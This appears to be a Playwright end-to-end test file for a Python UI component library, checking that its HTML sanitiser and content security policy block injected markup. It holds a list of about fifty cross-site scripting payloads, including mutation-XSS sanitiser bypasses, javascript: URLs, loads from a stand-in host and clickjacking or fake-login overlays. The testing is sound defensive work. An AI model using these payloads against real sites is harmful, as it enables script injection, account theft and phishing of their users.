"""The sink sweep: hostile text in every parameter of every component runs nothing in the page.

Whatever a payload would run sets `pwned`, opens a dialog or asks the host `canary.test` for something that runs.
"""

from __future__ import annotations

from contextlib import suppress
from typing import Any

import param
import pytest
from playwright.sync_api import Page, expect

import transom as tr
from tests.e2e import everything
from tests.e2e.live import Show, Shown, until
from transom.components.component import Component
from transom.components.info import class_info
from transom.components.signature import common_parameters
from transom.demo.examples import components, example

RUN = "window.pwned?.(1)"
HOST = "//canary.test"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<script src={HOST}/a.js></script>",
    f"<ScRiPt/x>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><set attributeName=href to="javascript:{RUN}"/><a id=x>x</a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a onclick={RUN}/></svg>#x">',
    f"<body onload={RUN}>",
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={HOST}/frame></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    f"<embed src={HOST}/e.swf>",
    f'<base href="{HOST}/"><script src=/b.js></script>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<link rel=stylesheet href={HOST}/c.css>",
    f'<style>@import "{HOST}/d.css";</style>',
    f'<form action="javascript:{RUN}"><button id=go>go</button></form>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="&#106;ava\tscript:{RUN}">x</a>',
    f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"</title></textarea></style></script><script>{RUN}</script>",
    f"javascript:{RUN}//",
    f"  JaVa\nScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"`-{RUN}-`${{{RUN}}}{{{{{RUN}}}}}<%= {RUN} %>",
    f"red;}} body {{ background: url(javascript:{RUN}) }} x {{ a:b",
    f"expression({RUN}); behavior: url({HOST}/x.htc); -moz-binding: url({HOST}/x.xml#x)",
    "\u2028\u2029\x00<\x00script>window.pwned(1)</script>",
    "__proto__",
    "constructor",
    '<a href="/x" style="position:fixed;inset:0;z-index:2147483647;background:red">over all</a>',
    '<div style="position:absolute;inset:-5000px;z-index:9999;background:red">around</div>',
    '<p style="margin:-5000px;padding:5000px;background:red">around</p>',
    '<div style="transform:scale(99);outline:9999px solid red;box-shadow:0 0 0 9999px red">large</div>',
    '<dialog open popover style="display:block;position:fixed;inset:0;width:100vw;height:100vh">above all</dialog>',
    '<label>Password<input type="password" name="p" form="f" formaction="/x"></label><button>Log in</button>',
    "<textarea>x</textarea><select><option>x</option></select><input type=checkbox><input>",
]  # fmt: skip

LIVE = r"""() => {
    const kinds = /^(script|iframe|frame|object|embed|base|meta|link|form|animate|set|use)$/i;
    const target = (name) => /^(href|src|xlink:href|action|formaction|data|to|values)$/i.test(name);
    const runs = ({ name, value }) =>
        /^on|^srcdoc$/i.test(name) || (target(name) && /^[\s\0-\x1f]*(javascript|vbscript|data:text)/i.test(value));
    return [...document.body.querySelectorAll("*")]
        .filter((el) => kinds.test(el.localName) || [...el.attributes].some(runs))
        .map((el) => el.outerHTML.slice(0, 200));
}"""
"""What stands in the page and could run, if not yet, then when the user does something."""
SEIZED = """() => {
    const mark = document.querySelector("main output");
    const {x, y, width, height} = mark.getBoundingClientRect();
    const over = document.elementFromPoint(x + width / 2, y + height / 2);
    const said = [...document.querySelectorAll(".tr-html, .tr-prose, td")]
        .flatMap((el) => [
            ...el.querySelectorAll("input:not([type=checkbox]), button, select, textarea, :popover-open"),
        ]);
    return [...(over === mark || mark.contains(over) ? [] : [over]), ...said].map((el) => el.outerHTML.slice(0, 200));
}"""
"""What lies over another component, or asks for what the user knows, though it is only shown."""
VIOLATIONS = """() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", ({target, effectiveDirective, blockedURI}) => {
        // The sanitiser parses what it is given in a document that nobody sees: neither the base of that counts, nor
        // handlers that are gone by now.
        if (effectiveDirective === "base-uri" && !document.querySelector("base")) return;
        const handled = (target.getAttributeNames?.() ?? []).some((name) => name.startsWith("on"));
        if (effectiveDirective !== "script-src-attr" || handled)
            window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
}"""
UNTYPED = {"value", "object", "progress", "format"}
"""Parameters of any type that take text."""


def strings_of(cls: type[Component]) -> list[str]:
    """Names of synced parameters into which text can be put, by itself or in a list or a dict."""
    info = class_info(cls)
    found = []
    for name in sorted(info.synced - info.held.keys() - {"natural", "margin", "tags", "align"}):
        kind = info.parameters[name]
        text = isinstance(kind, param.String | param.List | param.Dict)
        if kind.constant:
            continue
        if text or (name in UNTYPED and not isinstance(kind, param.Number | param.Boolean | param.Selector)):
            found.append(name)
    if "options" in info.parameters:
        found.append("options")
    return found


def hostile(component: Component, name: str, text: str) -> Any:
    """The value that puts `text` into a parameter, wherever text can stand in it."""
    match name:
        case "styles":
            return {"color": text, "background": text, text: "red", "--x": text}
        case "error" if not isinstance(component._info.parameters["error"], param.String):
            return dict.fromkeys(("title", "message", "detail", "id"), text)
        case "groups":
            return {text: [text, "other"]}
        case "options" | "labels" | "names" | "stylesheets":
            return [text] * (len(component.children) if isinstance(component, tr.Tabs) else 1)
        case _ if name.endswith("css_classes"):
            return [text]
        case "object" if isinstance(component, tr.pane.ParamFunction):
            return lambda: text
        case "object" if isinstance(component, tr.pane.SVG):
            return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{text}<script>{RUN}</script></svg>'
        case "object" if isinstance(component, tr.pane.JPG):
            return f"http:{HOST}/picture.jpg?{text}"
        case _:
            return [text] if isinstance(component._info.parameters[name], param.List) else text


Target = tuple[Component, str]


def targets() -> list[Target]:
    """One component for each parameter of each front end, and for what a pane makes of its object.

    What the frame of all views draws is tried once for each family.
    """
    found: dict[tuple[str, str], tuple[type[Component], str]] = {}
    for cls in components():
        framed = {name for name, _ in common_parameters(cls)} - {"label", "description"}
        for name in strings_of(cls):
            drawn = cls.__module__.split(".")[1] if name in framed else cls._front_end
            found.setdefault((cls.__name__ if name == "object" else drawn, name), (cls, name))
    return [(example(cls), name) for cls, name in found.values()]


class Watch:
    """Notes everything that must not happen."""

    def __init__(self, shown: Shown) -> None:
        self.ran: list[str] = []
        page = shown.page
        page.expose_function("pwned", lambda *_: self.ran.append("a script"))
        page.on("dialog", lambda dialog: (self.ran.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: self._request(request.url, request.resource_type))
        page.on("framenavigated", lambda frame: self.ran.append(f"navigation to {frame.url}"))
        page.context.on("page", lambda other: self.ran.append(f"window {other.url}"))

    def _request(self, url: str, kind: str) -> None:
        # A picture of another host may be shown; nothing else may come from there.
        if "canary.test" in url and kind != "image":
            self.ran.append(f"{kind} {url}")


LOST = r"ERR_|Failed to load resource"
"""Allowed in the console: pictures that are not there. Anything else the sweep would have to explain."""


def test_the_sweep_reaches_all_there_is(show: Show) -> None:
    names: set[tuple[str, str]] = set()
    show(lambda: names.update((type(component)._front_end, name) for component, name in targets()))
    assert len(PAYLOADS) >= 40
    assert {front_end for front_end, _ in names} == {cls._front_end for cls in components()}
    for wanted in (
        ("Button", "icon"), ("Tabs", "names"), ("Select", "groups"), ("Select", "options"), ("Image", "link_url"),
        ("Image", "caption"), ("HTML", "object"), ("Markdown", "object"), ("Str", "error"), ("Card", "title"),
        ("Slider", "format"), ("Card", "header_color"), ("TextInput", "placeholder"), ("StaticText", "value"),
        ("Code", "language"), ("Spacer", "description"), ("TaskButton", "progress"),
    ):  # fmt: skip
        assert wanted in names
    assert len([name for _, name in names if name == "styles"]) == 5  # as many families


def test_the_watch_sees_what_runs(show: Show) -> None:
    """Markup that somebody has vouched for may do such things; the sweep would notice."""
    shown = show(lambda: tr.Column(tr.pane.HTML("", sanitize_html=False)), allow=LOST, bypass_csp=True)
    watch = Watch(shown)
    shown.root[0].object = f"<img src=x onerror={RUN}><link rel=stylesheet href={HOST}/c.css><iframe srcdoc=x></iframe>"
    for seen in ("a script", "stylesheet http", "navigation"):
        for _ in range(300):  # the browser's events are taken while it is waited in
            if any(each.startswith(seen) for each in watch.ran):
                break
            shown.page.wait_for_timeout(50)
        assert [each for each in watch.ran if each.startswith(seen)], watch.ran
    assert len(shown.page.evaluate(LIVE)) == 3
    shown.root[0].object = PAYLOADS[-7] + PAYLOADS[-2] + "<output>x</output>"
    shown.page.locator(".tr-html button").wait_for()
    assert len(shown.page.evaluate(SEIZED)) == 3


def test_the_policy_stops_what_somebody_has_vouched_for(show: Show) -> None:
    shown = show(lambda: tr.Column(tr.pane.HTML("", sanitize_html=False)), allow=f"{LOST}|Content Security Policy")
    watch = Watch(shown)
    shown.root[0].object = f"<img src=x onerror={RUN}><script>{RUN}</script>"
    shown.page.wait_for_timeout(200)
    assert watch.ran == []


@pytest.mark.timeout(900)
@pytest.mark.parametrize("half", [0, 1])
def test_nothing_runs_whatever_is_set(show: Show, half: int) -> None:
    """Each payload on everything at once; changes reach what creation does, and the other way round."""
    made: list[Target] = []
    mark = tr.widgets.StaticText(value="begun")

    def make() -> Any:
        made[:] = targets()
        return tr.Column(mark, tr.Column(), *(component for component, _ in made))

    # Without the content security policy, which would stop most of it too: this is the first line of defence.
    shown = show(make, allow=LOST, bypass_csp=True)
    watch = Watch(shown)
    refused = 0
    for number, text in enumerate(PAYLOADS[half::2]):
        refused = 0
        for component, name in made:
            try:
                setattr(component, name, hostile(component, name, text))
            except (ValueError, TypeError):  # not a value of this parameter
                refused += 1
        shown.root[1].objects = [
            born for component, name in made[number % 3 :: 3] for born in again(component, name, text)
        ]
        shown.session.view.tree.set_page(title=text, lang=text)
        shown.session.notify({"kind": "notify", "id": text, "level": text, "text": text, "duration": 0, "detail": text})
        mark.value = number
        shown.page.wait_for_function(
            "(text) => document.querySelector('main output').textContent === text", arg=str(number)
        )
        assert shown.page.evaluate(LIVE) == [], text
        assert shown.page.evaluate(SEIZED) == [], text
        assert watch.ran == [], text
    poke(shown.page)
    shown.page.wait_for_timeout(300)
    assert watch.ran == []
    assert refused < len(made) / 20
    assert shown.page.locator("a[href^='javascript' i]").count() == 0


DRAWN = {"object", "value", "error", "title", "label", "description", "icon", "link_url", "styles", "stylesheets"}


@pytest.mark.timeout(900)
def test_nothing_that_is_shown_comes_into_conflict_with_the_policy(show: Show) -> None:
    """With the policy on: had the first line let something through, the second would tell."""
    made: list[Target] = []
    mark = tr.widgets.StaticText(value="begun")

    def make() -> Any:
        made[:] = [target for target in targets() if target[1] in DRAWN]
        return tr.Column(mark, *(component for component, _ in made))

    shown = show(make, allow=f"{LOST}|Content Security Policy")
    watch = Watch(shown)
    shown.page.evaluate(VIOLATIONS)
    for number, text in enumerate(PAYLOADS):
        for component, name in made:
            with suppress(ValueError, TypeError):  # not a value of this parameter
                setattr(component, name, hostile(component, name, text))
        mark.value = number
        shown.page.wait_for_function(
            "(text) => document.querySelector('main output').textContent === text", arg=str(number)
        )
        assert shown.page.evaluate("window.violations") == [], text
        assert watch.ran == [], text
    poke(shown.page)
    shown.page.wait_for_timeout(300)
    assert shown.page.evaluate("window.violations") == []


def test_markup_of_users_stays_within_its_pane_and_asks_for_nothing(show: Show) -> None:
    def make() -> Any:
        field = tr.widgets.TextInput(label="Say", value="<b>bold</b>")
        return tr.Column(tr.widgets.StaticText(value="mark"), field, tr.pane.Markdown(field), tr.pane.HTML(field))

    page, _, field, *_ = shown = show(make, allow=LOST)
    watch = Watch(shown)
    for text in PAYLOADS[-7:]:
        page.get_by_label("Say").fill(text)
        page.get_by_label("Say").press("Enter")
        until(lambda text=text: field.value == text)
        expect(page.locator(".tr-html")).not_to_have_text("bold")
        page.wait_for_timeout(50)
        assert page.evaluate(SEIZED) == [], text
    assert page.locator(".tr-html input[type=checkbox]").count() == 1  # folds parts of what libraries show
    assert watch.ran == []


def again(component: Component, name: str, text: str) -> list[Component]:
    """A component that has the value from its beginning."""
    kind = type(component)
    value = hostile(component, name, text)
    try:
        if kind is tr.Tabs and name == "names":
            return [tr.Tabs((text, tr.pane.Str("x")), closable=True)]
        return [kind(**{name: value})]
    except (ValueError, TypeError):
        return []


def poke(page: Page) -> None:
    """Do what a user may do to whatever there is, to set off what waits for it."""
    page.evaluate(
        """() => {
            for (const el of document.querySelectorAll("body *")) {
                for (const name of ["mouseover", "focus", "click", "toggle", "load", "error"]) {
                    if (name !== "click" || el.matches("a, button, summary")) {
                        if (!(el.matches("a[target=_blank]") && name === "click"))
                            el.dispatchEvent(new Event(name, {bubbles: true, cancelable: true}));
                    }
                }
            }
        }"""
    )


def test_no_link_leads_to_a_script(show: Show) -> None:
    links = ["javascript:window.pwned(1)", " \tJAVASCRIPT:window.pwned(1)", "data:text/html,x", "vbscript:x", "//"]

    def make() -> Any:
        return tr.Column(*(tr.pane.GIF(everything.PIXEL, alt_text="x", link_url=link) for link in links))

    shown = show(make)
    expect(shown.page.locator("main img")).to_have_count(len(links))
    assert shown.page.locator("main a").count() == 0


def test_the_server_cannot_be_made_to_send_the_page_to_a_script(show: Show) -> None:
    shown = show(lambda: tr.Column(tr.widgets.StaticText(value="here")), allow="no web address")
    watch = Watch(shown)
    shown.session.notify({"kind": "goto", "url": f"javascript:{RUN}"})
    text = shown.root[0]
    text.value = "still here"
    expect(shown.page.locator("main output")).to_have_text("still here")
    assert watch.ran == []


def test_what_a_user_types_stays_text(show: Show) -> None:
    def make() -> Any:
        field = tr.widgets.TextInput(label="Say")
        said = tr.bind(lambda text: text, field.param.value_input)
        return tr.Column(
            field, said, tr.pane.Str(field.param.value_input), tr.bind(tr.pane.HTML, field.param.value_input)
        )

    page, field, *_ = shown = show(make, allow=LOST, bypass_csp=True)
    watch = Watch(shown)
    for text in PAYLOADS[3:6]:
        page.get_by_label("Say").fill(text)
        until(lambda text=text: field.value_input == text)
        expect(page.locator(".tr-str")).to_have_text(text)
    page.wait_for_timeout(100)
    assert watch.ran == []
